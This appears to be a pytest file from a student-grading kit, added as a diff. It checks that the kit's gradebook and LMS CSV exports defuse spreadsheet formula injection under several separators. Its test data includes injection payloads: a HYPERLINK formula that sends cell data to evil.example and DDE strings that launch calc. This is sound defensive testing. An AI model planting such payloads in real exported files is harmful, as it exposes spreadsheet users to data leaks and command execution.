@@ -1,0 +1,274 @@
+"""No CSV the kit writes holds a formula, whatever separator a spreadsheet splits it on.
+
+A spreadsheet set to ``;`` (usual where the decimal mark is a comma), tab or ``|`` cuts ``x;=HYPERLINK(...)``
+into ``x`` and ``=HYPERLINK(...)``, a formula, though the comma-separated cell started with ``x``. Hostile text
+reaches every CSV: a student's folder or zip name (``student_id``, lms.csv's ``Student``), a refused file's name
+or a zip's name in ``reason``, the instructor's reviews (``review_note``...), the course's title and column names.
+Each written file is read back with every separator, by Python's ``csv`` module and by a reader that ignores the
+quotes, and no cell may start (after spaces) with a formula sign; the scores stay plain numbers and ordinary
+names come back as they are.
+
+The in-memory test drives the real writers (``gradebook.write``, ``exports.write_lms``) with reviews loaded
+from an overrides file and applied (``overrides.load``, ``overrides.apply``); the batch test runs the whole
+``runner.batch`` (one submission graded, with refused links; the others cannot be graded, so cost nothing).
+"""
+
+import csv
+import io
+import json
+import re
+from pathlib import Path
+
+import pytest
+
+from grader.assignment import load as load_assignment
+from grader.batch import exports, gradebook, overrides, runner
+
+SEPARATORS = (",", ";", "\t", "|")
+FORMULA_SIGNS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
+HOSTILE = (
+    'x; =HYPERLINK("http://evil.example/?"&A1,"marks")',
+    "a|@SUM(1)",
+    "a\t-2+3",
+    "Lee, -1+2",
+    "dde;=cmd|' /C calc'!A0",
+    "fw;\uff1d1+1",
+    "fw|\uff0b1",
+    "fw,\uff0d1",
+    "fw\t\uff20SUM(1)",
+    " =1+1",
+    "=2+2",
+    "\t+1",
+    "-2+3",
+    'q;"=1+1"',
+    "two\nlines;\n=1+1",
+    "cr\r=1+1",
+)
+"""Student names, reasons, notes, titles: each holds a formula after a separator (or at its start)."""
+NORMAL = ("李雷", "O'Brien, Pat")
+"""Names that must come back from the gradebook exactly as they are."""
+GRADEBOOK_NUMBERS = ("total", "max", "before_review", "adjustment", "late")
+
+
+def _start(cell, quotes=False):
+    """``cell`` without the leading spaces (and double quotes, when ``quotes``) a spreadsheet may skip; tab and
+    carriage return are formula signs themselves, so they stay."""
+    skip = '"' if quotes else ""
+    i = 0
+    while i < len(cell) and ((cell[i].isspace() and cell[i] not in "\t\r") or cell[i] in skip):
+        i += 1
+    return cell[i:]
+
+
+def _formula_cells(text, numbers=()):
+    """``(separator, reader, cell)`` for each cell of the CSV ``text`` that starts with a formula sign when read
+    with each separator, by the ``csv`` module and by splitting lines at the separator (quotes ignored).
+    ``numbers``: the columns (by heading) whose cells may be plain numbers (``-0.5``), read with ``,``."""
+    found = []
+    for sep in SEPARATORS:
+        rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=sep))
+        columns = rows[0] if rows and sep == "," else []
+        for row in rows:
+            for i, cell in enumerate(row):
+                if i < len(columns) and columns[i] in numbers and NUMBER.fullmatch(cell):
+                    continue
+                if _start(cell).startswith(FORMULA_SIGNS):
+                    found.append((sep, "csv", cell))
+        for line in re.split(r"\r\n|\r|\n", text):
+            for fragment in line.split(sep):
+                if NUMBER.fullmatch(fragment):  # a number cell: a number to the spreadsheet, never a formula
+                    continue
+                if _start(fragment, quotes=True).startswith(FORMULA_SIGNS):
+                    found.append((sep, "split", fragment))
+    return found
+
+
+def _read(path):
+    raw = path.read_bytes()
+    assert raw.startswith("\ufeff".encode())
+    return raw.decode("utf-8")[1:]
+
+
+def _rows(text, key, numbers=()):
+    """The rows of the CSV ``text`` by their ``key`` column; each cell of the ``numbers`` columns is a plain
+    number (or empty)."""
+    rows = {row[key]: row for row in csv.DictReader(io.StringIO(text, newline=""))}
+    for row in rows.values():
+        for column in numbers:
+            assert row[column] == "" or NUMBER.fullmatch(row[column]), (column, row)
+    return rows
+
+
+def test_the_detector_finds_each_hostile_string_as_written():
+    """Written as they are (no defusing), every hostile string is found with some separator: the checks below
+    would fail on a writer that let one through."""
+    for s in HOSTILE:
+        buf = io.StringIO()
+        csv.writer(buf, lineterminator="\r\n").writerow(["ok", s])
+        assert _formula_cells(buf.getvalue()), s
+    ordinary = 'name,other,score,delta\r\n"O\'Brien, Pat",李雷,12,-2.5\r\n'
+    assert _formula_cells(ordinary, numbers=("score", "delta")) == []
+    assert _formula_cells(ordinary, numbers=("score",)) == [(",", "csv", "-2.5")]  # a number only where one is due
+
+
+@pytest.mark.parametrize("s", HOSTILE)
+def test_text_cell_defuses_every_fragment_and_is_idempotent(s):
+    cell = gradebook.text_cell(s)
+    buf = io.StringIO()
+    csv.writer(buf, lineterminator="\r\n").writerow([cell])
+    assert _formula_cells(buf.getvalue()) == []
+    assert gradebook.text_cell(cell) == cell  # a name copied from the gradebook is the same name
+    assert cell.replace("'", "") == s.replace("\t", " ").replace("\r", " ").strip().replace("'", "")  # readable
+
+
+def test_text_cell_keeps_ordinary_text():
+    for s in NORMAL + ("Wang Fang (王芳)", "a - b", "x = 1", "score 3; late", "e-mail@example.com"):
+        assert gradebook.text_cell(s) == s
+    assert gradebook.text_cell("x; =1") == "x; '=1"
+    assert gradebook.text_cell("a|@SUM(1)") == "a|'@SUM(1)"
+    assert gradebook.text_cell("fw;\uff1d1") == "fw;'\uff1d1"
+
+
+# -- the real writers, in memory ---------------------------------------------------------------------------
+def _record(student, reason, score, tasks):
+    return {
+        "student": student,
+        "folder": "f",
+        "hash": "h",
+        "status": "refused",
+        "reason": reason,
+        "problems": [{"status": "refused", "reason": reason}],
+        "score": score,
+        "max_score": 10.0,
+        "raw_score": score,
+        "tasks": tasks,
+        "raw_tasks": tasks,
+        "task_max": {"masks": 10.0},
+    }
+
+
+def test_gradebook_lms_and_reviews_are_safe_with_every_separator(tmp_path):
+    names = list(HOSTILE) + list(NORMAL)
+    records = [_record(name, HOSTILE[i % len(HOSTILE)], 7.5, {"masks": 7.5}) for i, name in enumerate(names)]
+    reviews = tmp_path / "overrides.csv"
+    with reviews.open("w", encoding="utf-8", newline="") as fh:
+        writer = csv.writer(fh)
+        writer.writerow(overrides.CSV_COLUMNS)
+        for i, name in enumerate(names):
+            hostile = HOSTILE[(i + 1) % len(HOSTILE)]
+            named = gradebook.text_cell(name) if i % 2 else name  # as the gradebook shows it, or as it is
+            writer.writerow([named, "-0.5", "", "1", "", hostile, hostile, hostile])
+    found = overrides.load(reviews, students=names)
+    assert found.unknown == [] and len(found) == len(names)
+    final = [overrides.apply(r, found.for_student(r["student"]), copy_policy="zero") for r in records]
+    assignment = load_assignment()
+    gradebook.write(final, tmp_path / "gradebook.csv", assignment, headings={"masks": "Q3;=1+1"})
+    lms = exports.write_lms(final, tmp_path, title="HW|@SUM(1)")
+
+    text = _read(tmp_path / "gradebook.csv")
+    assert _formula_cells(text, numbers=GRADEBOOK_NUMBERS + ("Q3;'=1+1",)) == []
+    rows = _rows(text, "student_id", GRADEBOOK_NUMBERS + ("Q3;'=1+1",))
+    for name in NORMAL:
+        assert rows[name]["total"] == "6" and rows[name]["adjustment"] == "-0.5" and rows[name]["late"] == "1"
+        assert rows[name]["Q3;'=1+1"] == "7.5" and rows[name]["before_review"] == "7.5"
+    assert len(rows) == len(names)
+    lms_text = _read(lms)
+    assert _formula_cells(lms_text, numbers=("HW|'@SUM(1)",)) == []
+    lms_rows = _rows(lms_text, "SIS Login ID", ("HW|'@SUM(1)",))
+    assert {name: lms_rows[name]["HW|'@SUM(1)"] for name in NORMAL} == {name: "6" for name in NORMAL}
+
+
+# -- the whole batch ----------------------------------------------------------------------------------------
+FOLDERS = ("x;=HYPERLINK(1)", "a|@SUM(1)", "b\t-2+3", "Lee, -1+2", "fw;\uff1d1", " =1+1", "\uff20x")
+"""Student folders holding no code: each gets a row without being graded."""
+ZIPS = ("z;=cmd|'calc'!A0", "y|+1")
+"""Zips that are not zips: the reason names them."""
+LINKS = ('evil;=HYPERLINK("e")', "x|@SUM(1)", "t\t-1+1", "fw,\uff0b1")
+"""Links in the graded submission: refused, and named in its reason."""
+CONFIG = """tasks = ["masks"]
+title = "HW1;=1+1"
+[columns]
+masks = "Q7|@SUM(1)"
+[limits]
+call_timeout = 6
+total_timeout = 20
+"""
+
+
+def _reviews(students):
+    lines = []
+    for i, student in enumerate(students):
+        hostile = json.dumps(HOSTILE[i % len(HOSTILE)], ensure_ascii=False)
+        lines.append(
+            f"[students.{json.dumps(student, ensure_ascii=False)}]\npoints = -0.5\nnote = {hostile}\n"
+            f"by = {hostile}\nwhy = {hostile}\n"
+        )
+    return "\n".join(lines)
+
+
+@pytest.fixture(scope="module")
+def batch(tmp_path_factory):
+    base = tmp_path_factory.mktemp("csv_safety")
+    cls = base / "class"
+    cls.mkdir()
+    for name in FOLDERS + NORMAL:
+        (cls / name).mkdir()
+    for name in ZIPS:
+        (cls / f"{name}.zip").write_bytes(b"not a zip")
+    (cls / "-linked;=1").symlink_to(cls / NORMAL[0], target_is_directory=True)
+    graded = cls / "graded"
+    graded.mkdir()
+    (graded / "masks.py").write_text("def causal_mask(n:\n")  # a syntax error: graded, and fast
+    for name in LINKS:
+        (graded / name).symlink_to("masks.py")
+    course = base / "course"
+    course.mkdir()
+    (course / "gradekit.toml").write_text(CONFIG)
+    (course / "overrides.toml").write_text(
+        _reviews([f.replace("\t", "\\t") for f in FOLDERS] + ["graded", NORMAL[1]]),  # named as shown
+        encoding="utf-8",
+    )
+    result = runner.batch(submissions=cls, out=base / "out", jobs=1, profile="quick", config=course / "gradekit.toml")
+    return {"out": base / "out", "result": result}
+
+
+def test_the_batch_gradebook_is_safe_with_every_separator(batch):
+    text = _read(batch["out"] / "gradebook.csv")
+    rows = _rows(text, "student_id", GRADEBOOK_NUMBERS + ("Q7|'@SUM(1)",))
+    assert len(rows) == len(FOLDERS) + len(ZIPS) + len(NORMAL) + 2, sorted(rows)
+    assert _formula_cells(text, numbers=GRADEBOOK_NUMBERS + ("Q7|'@SUM(1)",)) == []
+    graded = rows["graded"]
+    assert graded["status"] == "refused" and "HYPERLINK" in graded["reason"] and "SUM(1)" in graded["reason"]
+    assert graded["adjustment"] == "-0.5" and graded["total"] == "0" and graded["max"] != "0"
+    assert NUMBER.fullmatch(graded["Q7|'@SUM(1)"]) and NUMBER.fullmatch(graded["max"])
+    assert rows[NORMAL[0]]["reason"] and rows[NORMAL[1]]["adjustment"] == "-0.5"
+    assert any("calc" in row["reason"] for row in rows.values())  # a zip's name, in its reason
+    assert batch["result"].warnings == []  # every review found its student
+
+
+def test_the_batch_lms_export_is_safe_with_every_separator(batch):
+    text = _read(batch["out"] / "lms.csv")
+    assert _formula_cells(text, numbers=("HW1;'=1+1",)) == []
+    rows = _rows(text, "SIS Login ID", ("HW1;'=1+1",))
+    assert set(NORMAL) <= set(rows) and rows[NORMAL[1]]["Student"] == NORMAL[1]
+    assert rows["graded"]["HW1;'=1+1"] == "0" and rows[NORMAL[0]]["HW1;'=1+1"] == ""
+
+
+def test_every_csv_the_batch_writes_is_checked(batch):
+    """The batch writes gradebook.csv and lms.csv and no other CSV: a new one needs its own check above."""
+    assert sorted(p.name for p in Path(batch["out"]).rglob("*.csv")) == ["gradebook.csv", "lms.csv"]
+
+
+def test_every_csv_writer_in_the_kit_is_checked():
+    """The kit writes CSV for people in gradebook.py and exports.py only (both checked above, both through
+    ``text_cell``): a CSV written anywhere else needs its own check. kit.py writes a wheel's RECORD (read by pip,
+    never by a spreadsheet: the student kit's own file names, their hashes and sizes;
+    tests/corpus/test_kit_build.py)."""
+    root = Path(gradebook.__file__).resolve().parents[1]
+    writers = sorted(
+        p.relative_to(root).as_posix()
+        for p in root.rglob("*.py")
+        if re.search(r"csv\.(writer|DictWriter)\b|\bDictWriter\(", p.read_text(encoding="utf-8"))
+    )
+    assert writers == ["batch/exports.py", "batch/gradebook.py", "kit.py"]
